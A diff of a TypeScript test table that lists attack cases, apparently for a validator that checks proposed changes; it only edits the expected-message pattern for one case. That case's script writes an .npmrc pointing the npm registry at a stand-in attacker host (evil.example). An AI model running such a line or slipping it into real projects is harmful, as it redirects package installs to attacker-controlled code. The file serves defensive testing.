@@ -127,7 +127,7 @@ export const CHANGES: Record<string, Attack> = {
     tries: 'to have packages come from elsewhere',
     script: 'echo registry=http://evil.example >.npmrc',
     ends: 'LOCAL_VALIDATING',
-    says: /it changes (?:where packages, hooks or submodules come from|what judges it): \.npmrc/,
+    says: /(?:may hold keys or passwords by their names|it changes where packages, hooks or submodules come from): \.npmrc/,
   },
   huge: {
     tries: 'to hide a line in a huge diff',
